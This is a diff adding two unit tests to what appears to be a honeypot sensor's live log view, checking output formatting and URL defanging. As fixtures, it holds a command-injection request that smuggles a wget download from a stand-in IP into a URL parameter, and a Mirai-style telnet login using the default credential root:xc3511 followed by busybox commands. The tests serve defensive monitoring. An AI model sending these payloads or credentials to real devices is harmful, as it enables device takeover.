@@ -69,4 +69,26 @@ describe("sensor live view", () => {
       "12:00:00 -- connections=10 sessions=4 probes=6 alerts=2 open=1 stored-rows=99 rss=64MiB limits: idle=3",
     );
   });
+
+  it("defangs a URL inside a URL-encoded command", () => {
+    const line = liveLine(
+      rec("GET /login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.7/r%20-O HTTP/1.1"),
+      {
+        defang: true,
+      },
+    );
+    expect(line).toContain("wget%20hxxp://198.51.100[.]7/r%20-O");
+  });
+
+  it("shows a telnet session's first login and its commands", () => {
+    const r = rec("\xff\xfc\x01root\r\nxc3511\r\nsh\r\n");
+    r.persona = "telnet";
+    r.facts = {
+      credentials: [{ user: "root", password: "xc3511", accepted: true }],
+      commands: ["sh", "/bin/busybox ECCHI"],
+    };
+    expect(liveLine(r, { defang: true })).toContain(
+      '"login root:xc3511 | sh; /bin/busybox ECCHI"  1 login',
+    );
+  });
 });
